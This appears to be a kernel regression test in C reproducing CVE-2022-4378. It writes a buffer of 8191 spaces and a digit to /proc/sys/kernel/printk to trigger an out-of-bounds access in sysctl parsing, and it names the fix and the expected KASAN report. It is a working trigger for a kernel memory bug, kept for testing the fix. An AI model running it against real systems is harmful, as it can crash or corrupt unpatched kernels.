/* SPDX-License-Identifier: BSD-2-Clause */
/* tests/kernel-published/sysctl-spaces.c - CVE-2022-4378
 * fix: proc: proc_skip_spaces() shouldn't think it is working on C strings
 * expected: KASAN: out-of-bounds in proc_get_long
 * More spaces than the page that counts: the length that is left becomes negative. */
#include <fcntl.h>
#include <string.h>
#include <unistd.h>

int main(void)
{
	static char text[8192];
	int fd = open("/proc/sys/kernel/printk", O_WRONLY);

	memset(text, ' ', sizeof(text) - 1);
	text[sizeof(text) - 1] = '1';
	return write(fd, text, sizeof(text)) < 0;
}
